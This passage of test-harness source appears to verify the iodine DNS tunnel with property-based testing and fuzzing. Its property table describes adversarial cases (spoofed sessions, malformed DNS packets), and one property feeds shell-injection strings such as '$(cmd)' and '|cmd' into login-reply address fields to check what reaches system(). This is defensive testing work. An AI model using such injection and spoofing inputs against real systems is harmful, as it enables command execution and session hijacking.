         '> 16 outstanding, an id was reused and an unmatched reply occurred (system) / > 16 puts (unit)',
    exhaustive_text='fw_query_put/get: every prefix of 0..20 distinct-id puts x every sequence of 5 operations over put(id 0..2, requester 0..1) / get(id 0..3) (2.1 M sequences)',
    engine_text='rapidcheck over choice tapes + bounded exhaustive enumeration; simnet hosting the real iodined with -b; unit shape for fw_query.c; 1 reply in 5 padded with TXT records to 512..65000 bytes (must arrive unchanged)',
    bounds='<= 20 requesters, <= 80 actions Round 5: names of 200..253 characters; header-only replies.', trusted_base=TB_SIM, assumptions=AS_SIM,
)

PROPS['C04'] = dict(
    bin='c04', sources=['props/c04.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=3000, budget=40, min_nontrivial=50),
    thorough=dict(workers=16, cases=80000, budget=1200, min_nontrivial=3000),
    rule='case = real iodined (tunnel subnet /8../30 with the server at a generated host position, source checking on (5/6) or off, query type) + '
         '1..8 honest scripted sessions from distinct IPv4/IPv6 addresses (refproto; one in four switches to raw UDP mode and then pings / sends data in raw frames) + 1..3 third parties + a plan of <= 90 actions generated '
         'before execution: honest ping / one-fragment data packet (to the server or another session) / option request; SPOOF = L I S O N R P '
         'data, raw login (wrong response), raw data, raw ping naming a victim session userid but sent from another session\'s or a third party\'s '
         'address; packet on the server tun for a live session, a slot nobody is logged in on, the server, network, broadcast, an outside address; '
         'time steps 5 ms .. 70 s incl. 59.6 / 60.0 / 60.5 / 61.0 s; new version requests from third parties; third parties that log in (with source checking), '
         'poll and then own the tunnel address of their slot (packets for it must reach them only; packets that arrived for the slot\'s earlier owner never). Oracles: (1) the plan is executed twice from reset, with and without the '
         'spoofed datagrams: decoded answers and raw frames received by every session and the server tun writes must be identical, and each '
         'spoofed DNS request must be answered BADIP (raw frames not at all); (2) bytes of a tun packet for address A appear only in datagrams sent '
         'to the address of the session that was assigned A and was active <= 58 s ago, never if it was silent >= 62 s / not logged in / '
         'unassigned; (3) a VACK never names a slot whose age on the server\'s whole-second clock is <= 60 (the harness\'s lower bound of the last refresh is never later than the server\'s), VFUL only when no slot is unused or silent >= 62 s (upper bound of the last refresh), a session silent '
         '>= 62 s is refused. non-trivial iff >= 2 sessions, >= 1 spoof, tun packets for a live and for a dead address, >= 1 expiry crossing',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodined; honest and adversarial scripted peers (refproto); differential execution',
    bounds='<= 8 sessions, <= 3 third parties, <= 90 actions, <= 600 virtual s Round 9: raw-mode sessions repeat their raw login later in the history.', trusted_base=TB_SIM,
    assumptions=AS_SIM + ['liveness band: 58..62 s of silence is exercised but not judged for routing and refusal; the take-over rule is judged exactly at 60 whole seconds', 'a spoofer has a different IP address than its victim (the server compares addresses, not ports)'],
)

PROPS['C13'] = dict(
    bin='c13', sources=['props/c13.cc'] + SIMSRC2, unit_objs=UNIT + ['tun_bsd'], images=IMGS, engine='rc',
    quick=dict(workers=8, cases=40000, budget=40, min_nontrivial=200),
    thorough=dict(workers=16, cases=300000, budget=1200, min_nontrivial=10000),
    rule='case = REAL iodine client (-T NULL/PRIVATE/TXT/SRV/MX/CNAME/A or autodetect) against a scripted server (reference implementation of the '
         'protocol document) that answers the version step honestly and the login step with a generated reply under downstream encoding T/S/U/V/R: '
         'server-address and client-address fields from {valid quad, valid quad + shell text (;cmd |cmd $(cmd) `cmd` && quotes redirections newline tab), '
         'not-dotted-quad numerics (10.2, 0x0a.1.2.3, 010.1.1.1, 1.2.3.4.5, 256.1.1.1, ...), shell text only, 60..200 characters of digits and '
         'metacharacters, arbitrary bytes}, mtu and netmask fields from {valid, boundary integers incl. overflow, valid + shell text, junk}, optional '
         'embedded NUL; 1 in 8 replies are arbitrary bytes; 1 in 12 are benign (control: must produce exactly the two configuration commands). '
         'Oracle: every string given to system() is split on spaces; every word is one of the fixed words of a benign run, a strict dotted quad, or a '
         'decimal integer 201..1500; no control characters. non-trivial iff the login step was reached, the reply parses as four fields and >= 1 '
         'field is not a plain valid value. 1 case in 3 is a unit case: tun_setip / tun_setmtu are called directly with generated address strings, prefix lengths and MTUs, in the Linux flavour and in a second build of tun.c with the BSD command templates (server address on the command line, route add net/prefix); same word oracle (plus quad/prefix)',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodine client; scripted server (refproto); system() observed at the shim; address fields incl. four valid decimal fields with 1..3 dots replaced by another single byte',
    bounds='login replies <= 400 bytes Round 5: integer fields valid only modulo 2^16 / 2^32.', trusted_base=TB_SIM + ['vbuild.py compiles tun.c a second time with -DFREEBSD (objcopy-renamed bsd_tun_setip / bsd_tun_setmtu)'],
    assumptions=AS_SIM + ['system cases run the Linux build of the client; the BSD command templates (server address on the command line, route add) are exercised at unit level only; Windows and Darwin branches are not compiled'],
)

PROPS['C10'] = dict(
    bin='c10', sources=['props/c10.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS + ['gsrv', 'gcli'], engine='rc',
    enum_parts=8, exhaustive_claim=True,
    quick=dict(workers=8, cases=6000, budget=40, min_nontrivial=300, enum_arg=1),
    thorough=dict(workers=16, cases=200000, budget=1200, min_nontrivial=20000, enum_arg=2),
    rule='three kinds of case: (a) 60%: the server answer writer (write_dns, glue) with a generated (record type, downstream codec, query-name length 8/53/253, '
         'payload 1..4096 incl. multiples of 252 +-3) -> strict RFC 1035 reference parser accepts the message; id, question name, type, class echoed; every '
         'answer owner resolves through compression to the question name. (b) 30%: real iodined (plain or wildcard domain, -b on/off) answering 3..40 valid '
         'queries from a logged-in scripted session and others: fragment probes of 2..2047 bytes (every answer size class incl. TXT string and MX/SRV '
         'record-count boundaries), echo requests with arbitrary label bytes (no dot, no NUL), codec tests, NS / A ns. / A www. / AAAA / ANY / type 0 / '
         '65535 / CNAME queries for the domain and sub-names, names of up to 253 characters with labels of arbitrary bytes, names outside the domain, '
         'EDNS0 on/off, IPv4/IPv6. (c) 10%: real iodine client + real iodined tunnel sessions as in C01/C02, one in three with any -M the option parser accepts (10..255) in front of a long domain. (b) and (c) are judged by the wire monitor '
         'on every datagram either program passes to sendto(): well-formed, answers match an unanswered query on (source, id, name, type), class IN, '
         'owners resolve to the question, NS -> ns.<domain> (+ glue A owned by it), A ns./www. -> one 4-byte A record (www -> 127.0.0.1); client queries: '
         'QR=0, RD=1, one question, plain OPT record at most, name within -M and under the domain. non-trivial iff multi-string TXT / multi-record / long '
         'name / auxiliary answer (a, b) or > 20 client queries (c)',
    exhaustive_text='write_dns: 7 record types x 5 codec letters x 3 query-name lengths x every payload length 1..4096 (thorough) or 1..300 + windows at multiples of 252 + 1/7 sample (quick)',
    engine_text='rapidcheck over choice tapes + length sweeps; glue pair, simnet (real iodined, real iodine), strict reference parser ref/refdns.cc; every answer record under the tunnel domain carries the query type (A may be answered by CNAME)',
    bounds='payload <= 4096, names <= 253 characters Round 5: fourth query name with 63-character labels.', trusted_base=TB_SIM + ['glue/glue_server.c (signature of write_dns)'],
    assumptions=AS_SIM + ['queries whose labels contain "." or NUL are outside the property (iodine represents names as dotted C strings)'],
)

PROPS['C05'] = dict(
    bin='c05', sources=['props/c05.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=6000, budget=40, min_nontrivial=200),
    thorough=dict(workers=16, cases=300000, budget=1200, min_nontrivial=10000),
    rule='case = real iodined under ASan+UBSan (netmask, source checking on/off, -b on/off, record type, receive-buffer residue 00 / ff / byte / pattern) + '
         'prelude of 0..3 honest scripted sessions (only with source checking on) and 0..2 sacrificial logged-in sessions of the attacker, each in a generated '
         'state (upstream codec, downstream codec, lazy, fragment size; mid upstream transfer / mid downstream transfer / raw mode) + 1..24 hostile steps from '
         '1..3 further addresses: raw bytes (lengths 0..4097 from a boundary list, random, 60000+), malformed DNS (odd counts, QR set, names with pointer loops, '
         'pointers to or past the end, pointer pairs, reserved label types, unterminated, 255+ octets, labels of bytes >= 0x80 / NUL / dot / shell characters, '
         'junk records, truncation, trailing garbage), protocol messages with adversarial userids / hashes / arguments, raw-mode frames of any command nibble and '
         'length up to 65 KB, raw login / ping / data frames of the attacker\'s own session cut after 3..19 bytes (in half of them the rest of the complete frame is still in the receive buffer), '
         'tun packets of 0..65000 bytes for any destination, a command letter followed by up to 240 arbitrary bytes, polls of a logged-in session, queue churn (bursts of small packets for one session with polls in between, so that its queue of four wraps), time steps. Oracle: (i) '
         'no sanitizer report, server still running and back in select() (scheduler step bound + 20 s wall-clock watchdog per case); (ii) every honest session '
         'active within 58 s sends a fresh one-fragment packet: written unchanged to the server tun device and acknowledged in a well-formed answer. Steps that '
         'may legitimately act for an honest session (its own address; a correct raw login; anything when source checking is off) are excluded by construction. '
         'non-trivial iff the server answered a hostile source, or a raw frame / short tun packet was processed',
    engine_text='rapidcheck over choice tapes (and the same case function under libFuzzer, see fuzz tier); simnet hosting the real iodined; ASan+UBSan; bare command letters from session addresses',
    bounds='<= 3 honest + 2 sacrificial sessions, <= 24 hostile steps, <= 40 virtual s Round 5: own-session data queries with arbitrary payload bytes after a codec switch.', trusted_base=TB_SIM,
    assumptions=AS_SIM + ['uninitialised reads are not detectable (no MSan-instrumented C++ runtime here)'],
)

PROPS['C05']['fuzz'] = dict(bin='c05f', quick=dict(workers=4, seconds=30, max_len=3000), thorough=dict(workers=8, seconds=900, max_len=4096))
PROPS['C05']['quick']['workers'] = 6
PROPS['C05']['technique'] = 'property-based testing (rapidcheck over choice tapes) and coverage-guided fuzzing (libFuzzer, structure-aware: bytes -> choice tape) of the same case function with the oracle inside'

PROPS['C06'] = dict(
    bin='c06', sources=['props/c06.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=6, cases=3000, budget=40, min_nontrivial=100),
    thorough=dict(workers=16, cases=150000, budget=1200, min_nontrivial=5000),
    fuzz=dict(bin='c06f', quick=dict(workers=4, seconds=30, max_len=3000), thorough=dict(workers=8, seconds=900, max_len=4096)),
    technique='property-based testing (rapidcheck over choice tapes) and coverage-guided fuzzing (libFuzzer, structure-aware: bytes -> choice tape) of the same case function with the oracle inside',
    rule='case = REAL iodine client under ASan+UBSan (-T each type or autodetect, -O, -m or autoprobe, -M, -L, raw mode on/off, receive-buffer residue) + scripted '
         'server with a response policy: honest for the first k queries (k from {0..3, 4..19, 20..79, whole handshake}), afterwards each query is answered '
         'hostile with probability 15/40/90 %: no answer, honest answer twice, raw bytes (optionally with the right id), well-formed DNS echoing id and question '
         'with a hostile answer section (RDLENGTH larger / smaller / 0 / 65535, ancount 0 / too large, 1..260 MX/SRV records with preferences in order / '
         'shuffled / duplicated / {0,5,10,2480..2510,65530,65535} / random, names with encoded-looking labels / hostile compression / 255 octets, TXT strings '
         'overrunning RDLENGTH and up to 65 KB, NULL data up to 60 KB, changed record or question type, rcode/TC, truncation, trailing garbage), payloads of the '
         'right form but hostile content for every handshake step (version, login, address, codec names up to 5000 bytes, codec tests with one bit flipped, '
         'fragment probes, fragment-size echoes, downstream data up to 60 KB), raw-mode frames of any command/length; in the tunnel phase packets are offered both '
         'ways. Oracle: (i) no sanitizer report, client back in select() or exited by itself after every datagram (step bound + 25 s wall-clock watchdog); '
         '(ii) spoofed data answers carrying a complete valid packet with an id outside the three most recent ids or a first name character other than P/p/'
         'userid are never written to the tun device (controls with matching id and character are counted when delivered). non-trivial iff a hostile answer hit a '
         'step after the login, or an MX/SRV answer had >= 17 records, or an RDLENGTH lied',
    engine_text='rapidcheck over choice tapes + libFuzzer; simnet hosting the real iodine client; scripted reference server; ASan+UBSan; 1 case in 6: half-matching handshake replies (right id under another step\'s name, or right name under a wrong id, valid but different payload) in front of honest answers: the handshake must complete with the honest values',
    bounds='<= 150 virtual s, <= 400 hostile answers per case Round 5: raw frames cut to 1..3 bytes (or inside the body) with the rest of a data frame as receive-buffer residue.', trusted_base=TB_SIM,
    assumptions=AS_SIM + ['uninitialised reads are not detectable (no MSan-instrumented C++ runtime here)'],
)

PROPS['C12'] = dict(
    bin='c12', sources=['props/c12.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=6, cases=8000, budget=40, min_nontrivial=300),
    thorough=dict(workers=16, cases=400000, budget=1200, min_nontrivial=10000),
    fuzz=dict(bin='c12f', quick=dict(workers=4, seconds=30, max_len=3000), thorough=dict(workers=8, seconds=900, max_len=4096)),
    technique='property-based testing (rapidcheck over choice tapes) and coverage-guided fuzzing (libFuzzer) of a differential case function: identical case, two receive-buffer residues, all observables compared',
    rule='case = (datagram or whole scenario) + residue B from {ff.., one byte value, random pattern, crafted continuation (labels + tunnel domain + type/class; ttl + '
         'rdlength + a compressed downstream fragment; a prefixed TXT string / label; random) repeated from the end of the datagram}; residue A is all zero. '
         'layer 1 (60%): dns_decode in query or answer mode on a 64 KB buffer holding a hostile datagram (generators of C05/C06: names with pointers to / past the '
         'end, loops, unterminated or over-long names, truncated sections, RDLENGTH lies, TXT overruns, 1..260 MX/SRV records) optionally cut at a random byte, or (1 in 4) '
         'a boundary datagram with consistent length fields whose last byte is the first byte of a compression pointer / a label length / inside a label or TXT string, '
         'caller buffer 4096 or 65536: return value, decoded name, type, id and output bytes must be equal. layer 2 (20% + 20%): the complete C05 scenario '
         '(real iodined, sessions, hostile history, health probe) or C06 scenario (real iodine client vs scripted server with hostile reply policy) executed twice '
         'from reset: every datagram the real program sends (exact bytes), every tun write, every system() string and the exit status must be equal. '
         'non-trivial iff the case contains a residue-sensitive shape (cut / truncated / pointer / past-end / unterminated / RDLENGTH lie / TXT overrun / boundary datagram)',
    engine_text='rapidcheck over choice tapes + libFuzzer; differential execution over receive-buffer residues (simnet fills [n, capacity) of every recv buffer); unit shape for dns_decode; server scenario 1 in 3 with perturbed history (echo requests of different text before every step)',
    bounds='as C05 / C06 Round 9: client differential over the CONTENT of ignored replies (short handshake replies behind complete ones with a wrong id).', trusted_base=TB_SIM + ['sim/simnet.cc residue filling of recv/recvfrom/recvmsg buffers'],
    assumptions=AS_SIM + ['stale contents of buffers other than the receive buffer (uninitialised stack) are not controlled by the harness'],
)

PROPS['C11'] = dict(
    bin='c11', sources=['props/c11.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=2500, budget=45, min_nontrivial=50),
    thorough=dict(workers=16, cases=30000, budget=1500, min_nontrivial=3000),
    rule='case = relay profile from the family {case keep/lower/upper/random} x {bytes >= 0x80 clean/strip/reject} x {+ keep/mangle} x {_ keep/mangle}, chosen '
         'separately for query names and for names/text in answers (1 in 3 profiles leave answers alone) x allowed record types (suffix or prefix of NULL,PRIVATE,TXT,'
         'SRV,MX,CNAME,A, a single type, or all) x answer size limit {none,4096,1232,512} x EDNS0 honoured or not (512 without) x refusal by SERVFAIL or silence x DNS '
         'ids kept or rewritten; REAL iodine client (autodetect everything, or one of -T/-O/-m forced; -L, -M) <-> relay (parses and rebuilds every message with the '
         'reference DNS implementation) <-> REAL iodined. Oracle (A): if the client reaches its tunnel loop, 6 packets each way (byte ramps, bytes 0xf8..0xff, random) are '
         'written to the peer tun byte-identically and in order, nothing else is written, and the client keeps running. (B): if an allowed record type exists (and a forced '
         'option itself survives the profile) the handshake must succeed. non-trivial iff the profile is not the identity and the negotiated tuple differs from '
         '(NULL, Base128, fragment >= 1000)',
    engine_text='rapidcheck over choice tapes; simnet hosting real iodine + real iodined; relay actor built on ref/refdns.cc; 1 case in 4 with 10..15 pre-occupied slots (user number 10..15); 1 case in 5 with an earlier scripted session on slot 0 (codecs switched, data moved, silent > 60 s)',
    bounds='<= 400 virtual s of handshake, 12 packets', trusted_base=TB_SIM,
    assumptions=AS_SIM + ['only fixed (length-independent) transformations; raw UDP mode is skipped (-r) because it bypasses the DNS path the property is about'],
)

for _k in ('C07', 'C20'):
    PROPS[_k]['exhaustive_quick'] = True   # their enumerators are the same in both tiers
