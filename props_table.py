"""props_table.py -- one entry per claimed property: how to build and run its check."""

UNIT = ['unit_api', 'base32', 'base64', 'base64u', 'base128', 'encoding', 'common', 'dns', 'read',
        'login', 'md5', 'user', 'fw_query', 'tun']
TB_COMMON = ['clang 14 ASan/UBSan runtimes', 'rapidcheck (generation and shrinking of choice tapes)',
             'sim/harness.cc (tape -> case decoding, statistics)']

PROPS = {}

PROPS['C07'] = dict(
    bin='c07', sources=['props/c07.cc', 'sim/harness.cc'], unit_objs=UNIT, engine='rc',
    enum_parts=4, exhaustive_claim=True,
    quick=dict(workers=4, cases=30000, budget=40, min_nontrivial=1000),
    thorough=dict(workers=12, cases=1500000, budget=900, min_nontrivial=100000),
    rule='case = (codec, byte string 0..4096 from 6 content classes, output capacity chosen below/around/above the '
         'needed size, chunk capacities, decoder capacity); non-trivial iff len>=1 and (capacity < needed, or len not '
         'a multiple of the block size, or a byte >= 0x80 present); distinct = hash of the effective choice tape. '
         'Enumerated parts are counted per (codec,input,capacity).',
    exhaustive_text='all inputs of length 0..2 x capacities 0..2len+4; all 65536 adjacent byte pairs at every block '
                    'offset inside a 3-block message; every length 0..4096 x {00,ff,counting} x capacity windows; '
                    'all four codecs; b32_5to8/b32_8to5 for all 32 values',
    engine_text='rapidcheck over choice tapes + exhaustive enumerators, unit shape (base*_ops via glue/unit_api.c), ASan+UBSan',
    bounds='len <= 4096, capacity <= 2*len+4',
    trusted_base=TB_COMMON + ['glue/unit_api.c (thin wrappers over base*_ops)',
                              'vbuild.py regenerates base64u.c with the sed rule read from src/Makefile'],
    assumptions=['encoders are called with cap+1 bytes of output space (documented contract)',
                 'alphabet sets taken from the property statement; index order inside an alphabet is not judged'],
)
