// harness.cc -- common main() for property binaries (rapidcheck driven search, replay, enumeration)
#include "harness.h"
#include <rapidcheck.h>
#include <cstdlib>
#include <fcntl.h>
#include <unistd.h>
#include <sstream>
#include <fstream>
#include <chrono>
#include <signal.h>

extern "C" { size_t __sanitizer_get_current_allocated_bytes(void); size_t __sanitizer_get_heap_size(void); }

namespace hz {

int enum_part = 0, enum_parts = 1;

uint64_t fnv(const void *p, size_t n, uint64_t h)
{
	const uint8_t *b = (const uint8_t *)p;
	for (size_t i = 0; i < n; i++) { h ^= b[i]; h *= 1099511628211ULL; }
	return h;
}

std::string json_escape(const std::string &s)
{
	std::string o;
	for (unsigned char c : s) {
		switch (c) {
		case '"': o += "\\\""; break;
		case '\\': o += "\\\\"; break;
		case '\n': o += "\\n"; break;
		case '\r': o += "\\r"; break;
		case '\t': o += "\\t"; break;
		default:
			if (c < 0x20 || c >= 0x7f) { char b[8]; snprintf(b, sizeof b, "\\u%04x", c); o += b; }
			else o += (char)c;
		}
	}
	return o;
}

std::string hexs(const Bytes &b, size_t max)
{
	static const char *d = "0123456789abcdef";
	std::string s;
	for (size_t i = 0; i < b.size() && i < max; i++) { s += d[b[i] >> 4]; s += d[b[i] & 15]; }
	if (b.size() > max) { char t[32]; snprintf(t, sizeof t, "..(%zuB)", b.size()); s += t; }
	return s;
}

void Stats::sample(const std::string &s, bool nt)
{
	std::string t = s.size() > 1500 ? s.substr(0, 1500) + "..." : s;
	auto &v = nt ? samples_nt : samples_tr;
	size_t cap = nt ? 5 : 1;
	// log-spaced sampling: cases number 1, 10, 100, 1000, ... of each kind
	uint64_t &n = nt ? n_seen_nt : n_seen_tr;
	n++;
	uint64_t p = 1; bool hit = false;
	for (int k = 0; k < 12; k++, p *= 10) if (n == p) hit = true;
	if (!hit) return;
	if (v.size() < cap) v.push_back(t); else v[cap - 1] = t;
}

void Stats::add(const CaseResult &r, const Tape &t)
{
	evaluations++;
	for (auto &c : r.classes) classes[c]++;
	if (r.nontrivial) {
		nontrivial++;
		uint64_t h = fnv(t.used.data(), t.used.size() * sizeof(uint32_t));
		nontrivial_hashes.insert(h);
	}
	if (!r.render.empty()) sample(r.render, r.nontrivial);
}

void Stats::add_enum(uint64_t hash, bool nt, const char *cls)
{
	evaluations++;
	if (cls) classes[cls]++;
	if (nt) { nontrivial++; nontrivial_hashes.insert(hash); }
}

bool Stats::write(const std::string &path, const std::string &fail_json) const
{
	std::ofstream f(path);
	if (!f) return false;
	f << "{\"evaluations\":" << evaluations << ",\"nontrivial\":" << nontrivial
	  << ",\"distinct_nontrivial\":" << nontrivial_hashes.size()
	  << ",\"exhaustive\":" << (exhaustive ? "true" : "false") << ",\"classes\":{";
	bool first = true;
	for (auto &kv : classes) { f << (first ? "" : ",") << "\"" << json_escape(kv.first) << "\":" << kv.second; first = false; }
	f << "},\"samples\":[";
	first = true;
	for (auto &s : samples_nt) { f << (first ? "" : ",") << "\"" << json_escape(s) << "\""; first = false; }
	for (auto &s : samples_tr) { f << (first ? "" : ",") << "\"" << json_escape(s) << "\""; first = false; }
	f << "],\"extra\":{";
	first = true;
	for (auto &kv : extra) { f << (first ? "" : ",") << "\"" << json_escape(kv.first) << "\":" << kv.second; first = false; }
	f << "}";
	if (!fail_json.empty()) f << ",\"failure\":" << fail_json;
	f << "}\n";
	f.close();
	// hashes for cross-worker distinct counting
	std::ofstream h(path + ".hashes", std::ios::binary);
	for (uint64_t x : nontrivial_hashes) h.write((const char *)&x, sizeof x);
	return true;
}

void write_tape_file(const std::string &path, const std::vector<uint32_t> &t, const std::string &comment)
{
	std::ofstream f(path);
	f << "TAPE1\n";
	std::istringstream c(comment);
	std::string line;
	while (std::getline(c, line)) f << "# " << line << "\n";
	for (size_t i = 0; i < t.size(); i++) f << t[i] << ((i + 1) % 16 == 0 ? "\n" : " ");
	f << "\n";
}

bool read_tape_file(const std::string &path, std::vector<uint32_t> &out, Bytes &rawbytes, bool &is_bytes, bool *is_raw)
{
	std::ifstream f(path, std::ios::binary);
	if (!f) return false;
	std::string all((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
	if (is_raw) *is_raw = all.compare(0, 6, "TAPER\n") == 0;
	if (all.compare(0, 6, "TAPE1\n") != 0 && all.compare(0, 6, "TAPER\n") != 0) {
		is_bytes = true; rawbytes.assign(all.begin(), all.end()); return true;
	}
	is_bytes = false;
	std::istringstream s(all.substr(6));
	std::string line;
	while (std::getline(s, line)) {
		if (!line.empty() && line[0] == '#') continue;
		std::istringstream l(line);
		unsigned long long v;
		while (l >> v) out.push_back((uint32_t)v);
	}
	return true;
}

static void on_alarm(int)
{
	static const char msg[] = "\nCASE-TIMEOUT the case did not finish within its wall-clock limit\n";
	if (write(2, msg, sizeof msg - 1)) {}
	if (write(1, msg, sizeof msg - 1)) {}
	_exit(14);
}

static std::string arg(int argc, char **argv, const char *name, const char *dflt)
{
	for (int i = 2; i + 1 < argc; i++) if (!strcmp(argv[i], name)) return argv[i + 1];
	return dflt;
}

static std::string fail_json(const CaseResult &r, const std::string &tapefile)
{
	return "{\"why\":\"" + json_escape(r.why) + "\",\"signature\":\"" + json_escape(r.signature) +
	       "\",\"tape\":\"" + json_escape(tapefile) + "\",\"render\":\"" + json_escape(r.render.substr(0, 4000)) + "\"}";
}

int harness_main(int argc, char **argv, PropDef &def)
{
	if (argc < 2) { fprintf(stderr, "usage: %s search|replay|enum ...\n", argv[0]); return 2; }
	std::string mode = argv[1];
	if (mode == "replay") {
		if (argc < 3) return 2;
		std::vector<uint32_t> v; Bytes raw; bool is_bytes = false, is_raw = false;
		if (!read_tape_file(argv[2], v, raw, is_bytes, &is_raw)) { fprintf(stderr, "cannot read %s\n", argv[2]); return 2; }
		Tape t = is_bytes ? Tape(raw.data(), raw.size()) : Tape(v);
		t.rawmode = is_raw;
		if (def.case_timeout_s) { signal(SIGALRM, on_alarm); alarm(def.case_timeout_s); }
		CaseResult r = def.run(t);
		alarm(0);
		printf("%s\n", r.render.c_str());
		if (!r.ok) { printf("REPLAY-FAIL signature=%s why=%s\n", r.signature.c_str(), r.why.c_str()); return 1; }
		printf("REPLAY-PASS nontrivial=%d\n", (int)r.nontrivial);
		return 0;
	}
	if (mode == "enum") {
		Stats st;
		std::string out = arg(argc, argv, "--out", "/dev/null");
		std::string msg;
		enum_part = atoi(arg(argc, argv, "--part", "0").c_str());
		enum_parts = atoi(arg(argc, argv, "--parts", "1").c_str());
		if (enum_parts < 1) enum_parts = 1;
		if (!def.exhaustive) { st.write(out, ""); return 0; }
		bool ok = def.exhaustive(st, msg);
		st.exhaustive = true;
		CaseResult r; if (!ok) r.fail("enum", msg);
		st.write(out, ok ? "" : fail_json(r, ""));
		if (!ok) { printf("ENUM-FAIL %s\n", msg.c_str()); return 1; }
		return 0;
	}
	if (mode != "search") return 2;

	std::string seed = arg(argc, argv, "--seed", "1");
	std::string cases = arg(argc, argv, "--cases", "1000");
	std::string out = arg(argc, argv, "--out", "/dev/null");
	std::string faildir = arg(argc, argv, "--faildir", ".");
	double budget = atof(arg(argc, argv, "--budget", "1e9").c_str());   // wall seconds: stop generating after this
	std::string params = "seed=" + seed + " max_success=" + cases + " max_size=" + std::to_string(def.max_size) + " max_discard_ratio=1000";
	setenv("RC_PARAMS", params.c_str(), 1);

	std::string lastcase = faildir + "/last_case.tape";
	int lfd = open(lastcase.c_str(), O_CREAT | O_RDWR | O_TRUNC, 0644);

	Stats st;
	CaseResult lastfail;
	std::vector<uint32_t> lastfail_used;
	bool have_fail = false;
	auto t0 = std::chrono::steady_clock::now();
	auto tfail = t0;
	double shrink_budget = atof(arg(argc, argv, "--shrink-budget", "40").c_str());
	std::string corpus_out = arg(argc, argv, "--corpus-out", "");   // export non-trivial cases as libFuzzer seed inputs
	int corpus_n = 0;
	uint64_t skipped_budget = 0;

	auto gen = rc::gen::scale(def.tape_scale, rc::gen::container<std::vector<uint32_t>>(rc::gen::arbitrary<uint32_t>()));
	bool ok = rc::check(def.id, [&]() {
		std::vector<uint32_t> raw = *gen;
		if (!have_fail && std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count() > budget) {
			skipped_budget++;
			return;   // budget exhausted: remaining cases are not executed (counted, never a verdict)
		}
		// shrinking budget: once exceeded, remaining shrink candidates are not executed, which ends the
		// shrink with the smallest failing case found so far
		if (have_fail && std::chrono::duration<double>(std::chrono::steady_clock::now() - tfail).count() > shrink_budget) return;
		if (lfd >= 0) {
			std::string s = "TAPER\n";
			char b[16];
			for (uint32_t x : raw) { snprintf(b, sizeof b, "%u ", x); s += b; }
			s += "\n";
			if (pwrite(lfd, s.data(), s.size(), 0) >= 0) { if (ftruncate(lfd, (off_t)s.size())) {} }
		}
		Tape t(raw);
		t.rawmode = true;
		if (def.case_timeout_s) { signal(SIGALRM, on_alarm); alarm(def.case_timeout_s); }
		CaseResult r = def.run(t);
		alarm(0);
		if (!have_fail) st.add(r, t);
		if (!have_fail && r.ok && r.nontrivial && !corpus_out.empty() && corpus_n < 64 && (st.nontrivial % 7) == 1) {
			Bytes b = t.as_bytes();
			if (b.size() <= 4096) { char fn[64]; snprintf(fn, sizeof fn, "/seed-%03d", corpus_n++); std::ofstream cf(corpus_out + fn, std::ios::binary); cf.write((const char *)b.data(), (std::streamsize)b.size()); }
		}
		if (!r.ok) {
			if (!have_fail) tfail = std::chrono::steady_clock::now();
			have_fail = true; lastfail = r; lastfail_used = t.used;
			RC_FAIL(r.why);
		}
	});
	st.extra["skipped_after_budget"] = std::to_string(skipped_budget);
	if (getenv("VERIF_MEMSTAT")) fprintf(stderr, "MEMSTAT evaluations=%llu allocated=%zu heap=%zu hashes=%zu\n", (unsigned long long)st.evaluations, __sanitizer_get_current_allocated_bytes(), __sanitizer_get_heap_size(), st.nontrivial_hashes.size());
	st.evaluations -= 0;
	if (!ok && have_fail) {
		std::string tf = faildir + "/fail.tape";
		write_tape_file(tf, lastfail_used, "property " + def.id + "\nsignature " + lastfail.signature + "\nwhy " + lastfail.why + "\n" + lastfail.render.substr(0, 3000));
		st.write(out, fail_json(lastfail, tf));
		printf("SEARCH-FAIL signature=%s tape=%s why=%s\n", lastfail.signature.c_str(), tf.c_str(), lastfail.why.c_str());
		return 1;
	}
	st.write(out, "");
	if (!ok) { printf("SEARCH-ERROR rapidcheck reported failure without a failing case\n"); return 3; }
	return 0;
}

} // namespace hz
