// harness.h -- choice tape, case result, statistics and the common main() of every
// property binary.  A *case* is a pure function of a choice tape (vector<uint32_t>):
//   - rapidcheck generates and shrinks tapes (search mode),
//   - libFuzzer input bytes are turned into tapes (fuzz targets),
//   - replay files are tapes written as text.
// All random choices of a property go through Tape, never through another RNG.
#pragma once
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <functional>
#include <map>
#include <set>
#include <string>
#include <vector>

namespace hz {

typedef std::vector<uint8_t> Bytes;

struct Tape {
	std::vector<uint32_t> in;
	size_t pos = 0;
	std::vector<uint32_t> used;   // effective choices (after range reduction): the normal form of the case
	std::vector<uint8_t> widths;  // per effective choice: how many bytes the byte mode would read for it (corpus export)
	// byte mode (libFuzzer): choices are read from raw bytes, 1/2/4 bytes depending on the range
	const uint8_t *bytes = nullptr;
	size_t nbytes = 0, bpos = 0;
	// raw mode: the tape holds values as rapidcheck generated them.  Their low bits are strongly biased towards
	// ones (measured: value % 16 == 15 in 30% of cases), so they are scrambled before range reduction; 0 stays 0,
	// which keeps "shrink towards 0 = default choice".  Replay files hold effective choices and are read verbatim.
	bool rawmode = false;
	static uint32_t scramble(uint32_t x)
	{
		if (!x) return 0;
		x ^= x >> 16; x *= 0x7feb352dU; x ^= x >> 15; x *= 0x846ca68bU; x ^= x >> 16;
		return x;
	}

	Tape() {}
	explicit Tape(const std::vector<uint32_t> &v) : in(v) {}
	Tape(const uint8_t *d, size_t n) : bytes(d), nbytes(n) {}

	bool exhausted() const { return bytes ? bpos >= nbytes : pos >= in.size(); }
	uint32_t raw(uint32_t n)
	{
		if (bytes) {
			int w = n <= 256 ? 1 : (n <= 65536 ? 2 : 4);
			uint32_t v = 0;
